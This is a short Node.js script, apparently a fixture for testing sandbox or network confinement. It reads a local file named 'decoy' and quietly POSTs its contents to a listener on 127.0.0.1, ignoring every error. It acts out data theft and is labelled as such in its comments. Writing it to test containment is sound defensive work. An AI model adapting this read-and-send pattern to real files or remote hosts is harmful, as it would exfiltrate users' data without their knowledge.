'use strict';
/** Steals: reads a decoy and posts it to LISTENER_PORT on this machine. */
const fs = require('node:fs');
const http = require('node:http');

/** A follower may read nothing by itself; a thief goes on all the same. */
function read(file) {
  try {
    return fs.readFileSync(file, 'utf8').trim();
  } catch {
    return 'nothing';
  }
}

const stolen = read('decoy');
const request = http.request({
  host: '127.0.0.1',
  port: Number(process.env.LISTENER_PORT),
  method: 'POST',
});
request.on('error', () => undefined);
request.end(`decoy ${stolen}`);
